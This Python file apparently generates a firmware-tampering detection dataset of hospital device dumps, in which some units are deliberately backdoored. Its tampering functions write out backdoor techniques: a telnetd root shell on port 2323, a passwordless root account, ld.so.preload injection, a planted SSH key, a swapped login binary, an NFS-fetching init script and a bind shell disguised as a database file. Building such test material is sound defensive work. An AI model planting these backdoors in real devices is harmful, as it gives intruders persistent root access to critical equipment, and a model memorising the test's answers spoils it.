"""The units of the hospital: most are as they were delivered, some were used, and some were tampered with."""
import os, random, shutil

from firmware import FIXTURES, MODELS, ROOT, DATA, data, environment, file_system, flash, versions, write

IMPLANTS = ("dead-function", "plt", "popen", "sprintf", "table-unpacked")


def implant(root, data, rng):
    names = [name for name in sorted(os.listdir(f"{FIXTURES}/implants/files/opt/bin")) if name.split("_")[0] in IMPLANTS and "_armv7_" in name]
    shutil.copy(f"{FIXTURES}/implants/files/opt/bin/{rng.choice(names)}", f"{data}/opt/bin/monitor")


def start_script(root, data, rng):
    write(f"{data}/opt/etc/init.d/S99sync", "#!/bin/sh\nmount -t nfs -o nolock 8.8.4.4:/pm /mnt\ncp -rf /mnt/* /data/opt/bin/\n", 0o755)


def start_line(root, data, rng):
    with open(f"{root}/etc/init.d/rcS", "a") as file:
        file.write("/bin/busybox telnetd -l /bin/sh -p 2323 &\n")


def account(root, data, rng):
    with open(f"{root}/etc/passwd", "a") as file:
        file.write("support::0:0::/:/bin/sh\n")


def setuid(root, data, rng):
    os.chmod(f"{root}/bin/busybox", 0o4755)


def one_byte(root, data, rng):
    path = f"{root}/usr/bin/openssl"
    with open(path, "r+b") as file:
        file.seek(os.path.getsize(path) // 3)
        old = file.read(1)
        file.seek(-1, 1)
        file.write(bytes([old[0] ^ 1]))


def removed(root, data, rng):
    os.remove(f"{root}/sbin/check-update")


def link(root, data, rng):
    os.remove(f"{root}/bin/login")
    os.symlink("/data/var/lib/login", f"{root}/bin/login")


def preload(root, data, rng):
    write(f"{root}/etc/ld.so.preload", "/data/var/lib/libhelp.so\n")


def authorized(root, data, rng):
    write(f"{root}/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x\n", 0o600)


def among_records(root, data, rng):
    """A program where only records may stand."""
    shutil.copy(f"{FIXTURES}/implants/files/opt/bin/bind-shell_thumb_glibc_dynamic_Os_stripped", f"{data}/var/lib/trends.db")


KINDS = (implant, start_script, start_line, account, setuid, one_byte, removed, link, preload, authorized, among_records)
# Besides, told where a flash has what they change.
BOOT, HIDDEN, RELABELLED = "boot", "hidden", "relabelled"


class Hospital:
    """Builds the dumps once; what is there already is taken."""

    def __init__(self, folder, count, tampered=37, used=200):
        self.folder, self.rng = folder, random.Random(2000)
        self.firmware = {}
        order = ["tampered"] * tampered + ["used"] * used + ["alike"] * (count - tampered - used)
        self.rng.shuffle(order)
        self.units = [(f"{number:06}", sort, self.rng.choice(versions()), self.rng.getrandbits(32)) for number, sort in enumerate(order, 1)]
        turns = iter(range(tampered))
        self.kinds = {serial: next(turns) for serial, sort, _, _ in self.units if sort == "tampered"}

    def golden(self, model, version):
        return f"{self.folder}/golden/{model}-{version}.bin"

    def build_golden(self):
        from firmware import root as make_root

        for model, version in versions():
            trees = f"{self.folder}/trees/{model}-{version}"
            if not os.path.exists(self.golden(model, version)):
                shutil.rmtree(trees, ignore_errors=True)
                make_root(f"{trees}/root", model, version)
                data(f"{trees}/data", version)
                self.assemble(self.golden(model, version), model, trees, trees, "000000")

    def assemble(self, path, model, trees, packed, serial, more="", root_tree=None):
        """Packs what `trees` holds; a root that is as it was is taken from `packed`."""
        os.makedirs(os.path.dirname(path), exist_ok=True)
        root_kind, data_kind, _, _ = MODELS[model]
        environment(f"{trees}/env", serial, more)
        packed_root = f"{packed}/root.fs"
        if root_tree or not os.path.exists(packed_root):
            packed_root = f"{trees}/root.fs"
            file_system(root_kind, root_tree or f"{trees}/root", packed_root, ROOT)
        file_system(data_kind, f"{trees}/data", f"{trees}/data.fs", DATA, serial)
        flash(path + ".part", model, (f"{trees}/env", packed_root, f"{trees}/data.fs"), str(int(serial)))
        os.rename(path + ".part", path)

    def build(self, progress):
        self.build_golden()
        os.makedirs(f"{self.folder}/dumps", exist_ok=True)
        for done, (serial, sort, (model, version), seed) in enumerate(self.units):
            path = f"{self.folder}/dumps/{serial}.bin"
            if not os.path.exists(path):
                if sort == "alike":
                    os.link(self.golden(model, version), path)
                else:
                    self.unit(path, serial, sort, model, version, random.Random(seed))
            progress(done, len(self.units))

    def unit(self, path, serial, sort, model, version, rng):
        packed, work = f"{self.folder}/trees/{model}-{version}", f"{self.folder}/work"
        shutil.rmtree(work, ignore_errors=True)
        os.makedirs(work)
        log = "".join(f"2026-{rng.randint(1, 11):02}-{rng.randint(1, 28):02} alarm {rng.randint(1, 99)}\n" for _ in range(rng.randint(1, 3000)))
        data(f"{work}/data", version, serial, log)
        more, root_tree = "", None
        if sort == "tampered":
            kind = self.kind(serial, model)
            if kind == BOOT:
                more = " init=/data/var/lib/start"
            elif callable(kind):
                root_tree = f"{work}/root"
                shutil.copytree(f"{packed}/root", root_tree, symlinks=True)
                kind(root_tree, f"{work}/data", rng)
            elif kind == RELABELLED:
                others = [it for it in MODELS[model][3] if it != version]
                packed = f"{self.folder}/trees/{model}-{others[0]}"
                shutil.rmtree(f"{work}/data")
                data(f"{work}/data", others[0], serial, log)
        self.assemble(path, model, work, packed, serial, more, root_tree)
        if sort == "tampered" and self.kind(serial, model) == HIDDEN:
            with open(path, "r+b") as file:
                file.seek(ROOT - (64 << 10))
                file.write(bytes(rng.getrandbits(8) for _ in range(4096)))

    def kind(self, serial, model):
        """What was done to a unit."""
        turn = self.kinds[serial] % (len(KINDS) + 3)
        special = {len(KINDS): BOOT, len(KINDS) + 1: HIDDEN, len(KINDS) + 2: RELABELLED}.get(turn)
        if special == RELABELLED and len(MODELS[model][3]) < 2 or special in (BOOT, HIDDEN) and MODELS[model][0] == "ubi":
            return implant
        return special or KINDS[turn]

    def inventory(self, path):
        with open(path, "w") as file:
            file.write("image,asset,serial,model,version\n")
            for serial, _, (model, version), _ in self.units:
                file.write(f"dumps/{serial}.bin,ASSET-{serial},{serial},{model},{version}\n")
